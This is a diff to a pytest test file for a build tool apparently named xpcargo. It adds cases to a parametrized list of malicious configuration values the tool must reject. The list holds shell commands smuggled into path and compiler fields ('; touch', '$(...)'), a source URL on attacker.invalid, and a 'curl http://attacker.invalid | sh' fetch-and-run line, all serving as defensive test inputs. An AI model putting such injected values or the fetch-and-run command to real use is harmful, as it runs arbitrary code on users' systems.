@@ -28,7 +28,7 @@ from .helpers import (
     single_error_line,
 )
 
-pytestmark = pytest.mark.engine
+pytestmark = [pytest.mark.engine, pytest.mark.std_images]
 
 MUSL = X86_64_MUSL
 
@@ -256,6 +256,9 @@ MARKER = Path("/tmp/xpcargo-std-source-pwned")
         # A shell command hidden in a path the layer's script copies.
         (f'std-unwinder = "/usr/lib/llvm-19/lib/libunwind.a; touch {MARKER}"', "std-unwinder"),
         (f'std-self-contained = ["$(touch {MARKER})"]', "std-self-contained"),
+        # The compiler of the std's compiler-rt runs in that layer too: one program of the image, never a command.
+        (f'std-cc = "musl-gcc; touch {MARKER}"', "std-cc"),
+        (f'std-ar = "$(touch {MARKER})"', "std-ar"),
         # The sources the std is built from come from xpcargo's recipe, pinned by hash, never from the project.
         ('rust-source = "http://attacker.invalid/rust-web-src_all.deb"', "rust-source"),
         ('std = "curl http://attacker.invalid | sh"', "std"),
